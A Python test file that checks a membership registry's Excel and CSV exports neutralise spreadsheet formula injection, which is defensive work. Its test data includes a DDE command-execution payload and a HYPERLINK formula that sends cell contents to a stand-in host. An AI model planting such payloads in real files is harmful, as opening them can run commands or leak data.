"""Text that Excel would run as a formula (=, +, -, @, tab, CR first: OWASP's CSV injection)
is written as text by every export: the registry, the tables, the rating workbooks, the
audit CSV."""

from datetime import date

from openpyxl import load_workbook

from models.accounts.audit_browse import AuditFilter, export_audit_csv
from models.core.excel import write_table
from models.core.text_tables import read_text_table
from models.members.export import export_members
from models.members.record import member_fields, update_member
from models.orgs.changes import create_org
from models.ratings.exchange import export_rating_workbooks

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?x="&H5,"Bấm vào đây")', "+1+1",
           "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def formulas(path) -> list[str]:
    book = load_workbook(path)
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def test_a_table_writes_hostile_text_as_text(tmp_path):
    path = write_table(tmp_path / "bang.xlsx", "BẢNG", "", ["Tên"], [[text] for text in HOSTILE])
    assert formulas(path) == []
    rows = list(load_workbook(path).active.iter_rows(min_row=4, values_only=True))
    assert rows[0] == ("STT", "Tên") and [row[0] for row in rows[1:]] == list(range(1, len(HOSTILE) + 1))
    values = [row[1] for row in rows[1:]]
    # A bare CR may come back as LF, depending on the XML writer; what matters is "as text".
    assert [value.replace("\r", "\n") for value in values] == [text.replace("\r", "\n") for text in HOSTILE]


def test_the_registry_export_writes_no_formula(make_member, tmp_path):
    member = make_member()
    update_member(member.id, {**member_fields(member), "occupation": HOSTILE[0], "home_town": HOSTILE[1],
                              "note": HOSTILE[2]})
    make_member(full_name="Trần Thị Hoa", sex="F", admitted=date(2012, 1, 1))
    path = tmp_path / "ds.xlsx"
    export_members(path)
    assert formulas(path) == []
    texts = {cell for row in load_workbook(path).active.iter_rows(values_only=True) for cell in row}
    assert HOSTILE[0] in texts and HOSTILE[1] in texts


def test_rating_workbooks_write_no_formula(bloc_tree, make_member, tmp_path):
    hostile = create_org(name=HOSTILE[1], level="CBCS", parent_id=bloc_tree["bloc"].id)
    make_member(org=hostile)
    paths = export_rating_workbooks(2024, tmp_path)
    assert paths and all(formulas(path) == [] for path in paths)


def test_the_audit_csv_defuses_formulas(bloc_tree, make_member, tmp_path):
    member = make_member()
    update_member(member.id, {**member_fields(member), "occupation": HOSTILE[0]})
    create_org(name=HOSTILE[4], level="CBCS", parent_id=bloc_tree["bloc"].id)
    path = tmp_path / "nhat-ky.csv"
    export_audit_csv(AuditFilter(), path)
    cells = [cell for row in read_text_table(path) for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
